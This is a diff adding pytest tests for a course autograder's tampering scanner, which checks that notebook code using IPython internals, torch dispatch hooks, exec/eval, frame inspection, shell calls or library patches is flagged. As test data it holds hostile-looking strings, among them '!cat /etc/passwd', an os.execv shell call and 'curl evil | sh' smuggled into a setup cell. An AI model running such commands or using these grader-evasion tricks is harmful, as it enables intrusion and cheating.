@@ -1,0 +1,256 @@
+"""The tampering scanner (course_grader.scan): each primitive is flagged in a minimal snippet and
+an honest near-miss is not; honest reference solutions are never flagged."""
+from __future__ import annotations
+
+import copy
+import importlib
+
+import nbformat
+import pytest
+
+from course_grader import scan
+from course_grader.notebook import grade_id, is_test, read_notebook
+from tests.conftest import ROOT, assignments
+
+# primitive -> (a minimal snippet that uses it, an honest snippet that must not be flagged)
+CASES = {
+    "get_ipython": ("get_ipython().run_cell('x')", "from IPython.display import display\ndisplay(1)"),
+    "IPython.core": ("from IPython.core import interactiveshell", "import IPython.display"),
+    "InteractiveShell": ("from IPython import InteractiveShell\nInteractiveShell.instance()",
+                         "shell_width = 3"),
+    "display_pub": ("ip.display_pub.publish = fake", "self.display_publisher = None"),
+    "input_transformers_pre": ("ip.input_transformers_pre.append(f)", "input_transformers = []"),
+    "input_transformers_post": ("ip.input_transformers_post.append(f)", "transformers_post = []"),
+    "ast_transformers": ("ip.ast_transformers.append(t)", "transformers = [t]"),
+    "events.register": ("ip.events.register('pre_run_cell', f)", "self.events.append(e)"),
+    "sys.displayhook": ("sys.displayhook(1)", "sys.stdout.flush()"),
+    "sys.excepthook": ("hook = sys.excepthook", "sys.exit"),
+    "In": ("print(In[-1])", "Inputs = [1]\nprint(Inputs)"),
+    "Out": ("print(Out)", "Output = 1"),
+    "_ih": ("text = _ih[3]", "_idx = 3"),
+    "_oh": ("_oh.clear()", "_ohm = 1"),
+    "_i": ("source = _i12 + _ii", "for _ in range(3):\n    _in = _"),
+    "IPython magic or shell escape": ("!cat /etc/passwd\nx = 1", "%matplotlib inline\nx = 1"),
+    "torch._C": ("ctx = torch._C._DisableTorchDispatch", "torch.cuda.is_available()"),
+    "_DisableTorchDispatch": ("with guard._DisableTorchDispatch():\n    pass", "with torch.no_grad():\n    pass"),
+    "torch.ops": ("torch.ops.aten.convolution(x, w, None, [1], [0], [1], False, [0], 1)",
+                  "torch.nn.functional.conv2d(x, w)"),
+    "torch.library": ("lib = torch.library.Library('aten', 'IMPL')", "import torch.linalg"),
+    "torch.utils._python_dispatch": ("from torch.utils import _python_dispatch",
+                                     "from torch.utils.data import DataLoader"),
+    "TorchDispatchMode": ("class M(TorchDispatchMode):\n    pass", "class M(nn.Module):\n    pass"),
+    "torch.overrides": ("from torch.overrides import TorchFunctionMode", "from torch.optim import SGD"),
+    "__torch_dispatch__": ("class T(torch.Tensor):\n    def __torch_dispatch__(cls, f, t, a, k):\n        pass",
+                           "class T:\n    def __call__(self, x):\n        return x"),
+    "__torch_function__": ("class T:\n    def __torch_function__(self, f, t, a=(), k=None):\n        pass",
+                           "def torch_function(x):\n    return x"),
+    "exec": ("exec(code)", "executor = 1"),
+    "eval": ("eval('1 + 1')", "model.eval()"),
+    "compile": ("compile(src, 'x', 'exec')", "import re\npattern = re.compile('[0-9]+')"),
+    "__import__": ("m = __import__('ctypes')", "import math"),
+    "importlib": ("import importlib\nimportlib.import_module(name)", "import math\nmath.sqrt(2)"),
+    "runpy": ("import runpy", "import statistics"),
+    "marshal": ("import marshal", "import json"),
+    "types.CodeType": ("import types\ntypes.CodeType(*args)", "import types\nns = types.SimpleNamespace()"),
+    "types.FunctionType": ("import types\nf = types.FunctionType(code, {})", "import typing"),
+    "getattr with a computed name": ("getattr(torch, 'con' + 'v2d')(x, w)", "getattr(model, 'fc')"),
+    "namespace write": ("globals()['pad2d'] = f", "timer = Timer(globals=globals())"),
+    "__dict__ write": ("F.__dict__['conv2d'] = f", "self.__dict__.update(kwargs)"),
+    "__builtins__": ("__builtins__.print = f", "builtin_names = []"),
+    "builtins": ("import builtins", "import math"),
+    "ctypes": ("import ctypes", "ctypes_used = False"),
+    "cffi": ("from cffi import FFI", "ffi_free = True"),
+    "gc": ("import gc\nobjs = gc.get_objects()", "import gc\ngc.collect()"),
+    "sys._getframe": ("frame = sys._getframe(1)", "size = sys.getsizeof(x)"),
+    "inspect.currentframe": ("import inspect\ninspect.currentframe()", "import inspect\ninspect.signature(f)"),
+    "inspect.stack": ("import inspect\ninspect.stack()", "stack = torch.stack([x, x])"),
+    "inspect.getouterframes": ("from inspect import getouterframes", "from inspect import isclass"),
+    "inspect.trace": ("import inspect\ninspect.trace()", "trace = torch.trace(m)"),
+    "f_back": ("caller = frame.f_back", "back = layers[-1]"),
+    "f_globals": ("g = frame.f_globals", "g = globals_count"),
+    "f_locals": ("l = frame.f_locals['expected']", "l = f_local"),
+    "f_code": ("code = frame.f_code", "code = 1"),
+    "tb_frame": ("f = e.__traceback__.tb_frame", "print(e)"),
+    "gi_frame": ("f = gen.gi_frame", "g = next(gen)"),
+    "__code__": ("f.__code__ = g.__code__", "name = f.__name__"),
+    "__globals__": ("f.__globals__['x'] = 1", "doc = f.__doc__"),
+    "sys.modules write": ("sys.modules['course_utils'] = fake", "loaded = 'torch' in sys.modules"),
+    "sys.settrace": ("sys.settrace(tracer)", "sys.setrecursionlimit(2000)"),
+    "sys.setprofile": ("sys.setprofile(p)", "sys.getrecursionlimit()"),
+    "threading.settrace": ("import threading\nthreading.settrace(t)", "import threading\nthreading.Lock()"),
+    "sys.addaudithook": ("sys.addaudithook(h)", "sys.getdefaultencoding()"),
+    "os.system": ("os.system('ls')", "os.path.join('a', 'b')"),
+    "os.popen": ("os.popen('ls')", "os.cpu_count()"),
+    "os.fork": ("pid = os.fork()", "fork = 2"),
+    "os.forkpty": ("os.forkpty()", "os.getcwd()"),
+    "os.exec": ("os.execv('/bin/sh', ['sh'])", "os.environ.get('HOME')"),
+    "os.kill": ("os.kill(1, 9)", "skill = 1"),
+    "os.killpg": ("os.killpg(1, 9)", "os.getpid()"),
+    "subprocess": ("import subprocess\nsubprocess.run(['ls'])", "process = 1"),
+    "multiprocessing": ("from multiprocessing import Process", "from concurrent import futures"),
+    "torch.multiprocessing": ("import torch.multiprocessing as mp",
+                              "loader = DataLoader(ds, batch_size=8, num_workers=0)"),
+    "pty": ("import pty", "empty = torch.empty(3)"),
+    "asyncio.create_subprocess_exec": ("import asyncio\nasyncio.create_subprocess_exec('ls')",
+                                       "import asyncio\nasyncio.sleep(0)"),
+    "asyncio.create_subprocess_shell": ("import asyncio\nasyncio.create_subprocess_shell('ls')",
+                                        "import asyncio\nasyncio.run(main())"),
+    "signal": ("import signal\nsignal.signal(signal.SIGALRM, h)", "signal = x * 2\nprint(signal.shape)"),
+    "library patch": ("torch.nn.functional.conv2d = my_conv", "torch.backends.cudnn.deterministic = True\n"
+                      "self.conv = nn.Conv2d(1, 8, 3)"),
+    "course_grader": ("from course_grader import kernel", "from course_utils import plots"),
+    "data set file path": ("p = 'data/MNIST/raw/t10k-labels-idx1-ubyte'",
+                           "fig = show_images(x, title='MNIST: the first 16 digits')"),
+    "reads a data set file": ("raw = open(root + '/MNIST/raw/t10k', 'rb').read()",
+                              "with open('results.txt', 'w') as f:\n    f.write('MNIST done')"),
+    "loads the data set inside a function": (
+        "class Net(nn.Module):\n    def forward(self, x):\n        imgs, labels = data.mnist_tensors(train=False)\n"
+        "        return x",
+        "images, labels = data.mnist_tensors(train=False, limit=256)"),
+    "looks inputs up by content": ("class Net(nn.Module):\n    def forward(self, x):\n"
+                                   "        return TABLE[x.numpy().tobytes()]",
+                                   "key = x.numpy().tobytes()\nclass Net(nn.Module):\n    def forward(self, x):\n"
+                                   "        return self.fc(x)"),
+    "cannot be parsed": ("def f(:\n    pass", "def f():\n    pass"),
+    "too large to scan": ("x = 1\n" * 200_000, "x = 1\n" * 1000),
+}
+
+
+def primitives(source: str) -> set:
+    return {f.primitive for f in scan.scan_source(source)}
+
+
+def test_every_primitive_has_a_case():
+    assert set(CASES) == set(scan.PRIMITIVES)
+    assert all(kind in ("name", "object", "attr", "module", "rule") and why
+               for kind, why in scan.PRIMITIVES.values())
+
+
+@pytest.mark.parametrize("primitive", sorted(CASES))
+def test_a_primitive_is_flagged(primitive):
+    assert primitive in primitives(CASES[primitive][0])
+
+
+@pytest.mark.parametrize("primitive", sorted(CASES))
+def test_an_honest_near_miss_is_not_flagged(primitive):
+    assert primitives(CASES[primitive][1]) == set()
+
+
+def test_findings_give_the_line_and_why():
+    [finding] = scan.scan_source("x = 1\n\ny = eval('x')\n")
+    assert (finding.line, finding.primitive) == (3, "eval")
+    assert finding.why == scan.PRIMITIVES["eval"][1]
+
+
+def test_aliases_are_followed():
+    assert "torch._C" in primitives("import torch as t\nt._C._set_grad_enabled(True)")
+    assert "torch._C" in primitives("from torch import _C as c")
+    assert "torch._C" in primitives("c = getattr(torch, '_C')")
+    assert "torch._C" in primitives("t = torch\nt._C")
+    assert "ctypes" in primitives("import sys\nc = sys.modules['ctypes']")
+    assert "library patch" in primitives("setattr(F, 'conv2d', f)")
+    assert "library patch" in primitives("import numpy as xp\nxp.sum = f")
+    assert "library patch" in primitives("torch.Tensor.__eq__ = f")
+    assert "namespace write" in primitives("g = globals()\ng.update(pad2d=f)")
+    assert "sys.modules write" in primitives("import sys as s\ndel s.modules['torch']")
+
+
+def test_a_name_bound_by_an_import_is_not_the_builtin():
+    assert primitives("from re import compile\ncompile('x')") == set()
+    assert primitives("from ast import literal_eval\nliteral_eval('1')") == set()
+
+
+def test_magics():
+    found = scan.scan_source("x = 1\n%time y = 2\n!pip install foo\n")
+    assert [(f.line, f.primitive) for f in found] == [(2, "IPython magic or shell escape"),
+                                                       (3, "IPython magic or shell escape")]
+    assert primitives("%%bash\nls\n") == {"IPython magic or shell escape"}
+    assert primitives("%matplotlib inline\nget_ipython()") == {"get_ipython"}
+
+
+def test_unparseable_source_is_an_item_not_a_crash():
+    assert primitives("x = (" * 300 + ")" * 300) <= {"cannot be parsed", "too large to scan"}
+    assert primitives("x = 1\x00") == {"cannot be parsed"}
+    assert primitives("[" * 100 + "]" * 100) in (set(), {"too large to scan"}, {"cannot be parsed"})
+
+
+# ---------------------------------------------------------------------------- notebooks
+
+
+def _cell(source: str, **nbgrader) -> nbformat.NotebookNode:
+    cell = nbformat.v4.new_code_cell(source)
+    if nbgrader:
+        cell.metadata["nbgrader"] = {"schema_version": 3, "locked": False, "points": 0,
+                                     "solution": False, "grade": False, **nbgrader}
+    return cell
+
+
+def test_scan_notebook_skips_test_cells_and_follows_setup_imports():
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [_cell("import torch.nn.functional as fn\nimport sys"),
+                _cell("fn.conv2d = f", grade_id="pad2d", solution=True),
+                _cell("x = sys._getframe()", grade_id="test_pad2d", grade=True, points=2, locked=True),
+                nbformat.v4.new_markdown_cell("exec('x')"),
+                _cell("\n\nexec(s)")]
+    items = scan.scan_notebook(nb)
+    assert [i.to_dict() for i in items] == [
+        {"cell": 1, "grade_id": "pad2d", "line": 1, "primitive": "library patch",
+         "why": scan.PRIMITIVES["library patch"][1]},
+        {"cell": 4, "grade_id": "", "line": 3, "primitive": "exec", "why": scan.PRIMITIVES["exec"][1]}]
+    skip = lambda c: is_test(c) or grade_id(c) == "pad2d"      # noqa: E731
+    assert [i.cell for i in scan.scan_notebook(nb, skip_cell=skip)] == [4]
+    assert [i.cell for i in scan.scan_notebook(nb, skip_cell=lambda c: False)] == [1, 2, 4]
+
+
+def test_instructor_cells_skips_only_unchanged_test_cells():
+    source = nbformat.v4.new_notebook()
+    source.cells = [_cell("assert f(1) == 2", grade_id="test_f", grade=True, points=1, locked=True)]
+    sub = copy.deepcopy(source)
+    sub.cells.append(_cell("In[0]", grade_id="test_mine", grade=True, points=1, locked=True))
+    sub.cells.append(_cell("assert f(1) == 2\nexec('1')", grade_id="test_f", grade=True, points=1))
+    assert scan.scan_notebook(sub) == []                        # by default: is_test
+    items = scan.scan_notebook(sub, skip_cell=scan.instructor_cells(source))
+    assert [(i.cell, i.primitive) for i in items] == [(1, "In"), (2, "exec")]
+
+
+def _honest_notebooks():
+    for assignment in assignments():
+        nb = read_notebook(ROOT / "source" / assignment / f"{assignment}.ipynb")
+        yield assignment, "reference", nb
+        variants = importlib.import_module(f"tests.variants.{assignment}").VARIANTS
+        for v in variants:
+            if v.correct:
+                alt = copy.deepcopy(nb)
+                for cell in alt.cells:
+                    if grade_id(cell) in v.replace:
+                        cell.source = v.replace[grade_id(cell)]
+                yield assignment, v.name, alt
+
+
+def test_honest_reference_solutions_and_correct_variants_are_never_flagged():
+    scanned, flagged = 0, []
+    for assignment, name, nb in _honest_notebooks():
+        scanned += sum(1 for c in nb.cells if c.cell_type == "code" and not is_test(c))
+        flagged += [(assignment, name, i.to_dict()) for i in scan.scan_notebook(nb)]
+    assert scanned > 50
+    assert flagged == []
+
+
+def test_release_notebooks_are_never_flagged():
+    for assignment in assignments():
+        nb = read_notebook(ROOT / "release" / assignment / f"{assignment}.ipynb")
+        assert scan.scan_notebook(nb) == [], assignment
+
+
+def test_only_the_unchanged_release_setup_cell_may_pip_install():
+    from course_grader.release import SETUP_TEMPLATE
+
+    setup = SETUP_TEMPLATE.format(install_url="git+https://github.com/example-org/cnn-course-student@main")
+    assert scan.is_release_setup(setup)
+    assert scan.scan_source(setup) == []
+    changed = setup.replace("--quiet", "--quiet; curl evil | sh")
+    assert not scan.is_release_setup(changed)
+    assert "subprocess" in primitives(changed)
+    other = SETUP_TEMPLATE.format(install_url="https://evil.example/x.tar.gz")
+    assert "subprocess" in primitives(other)
+    assert "subprocess" in primitives(setup + "subprocess.run(['sh'])\n")
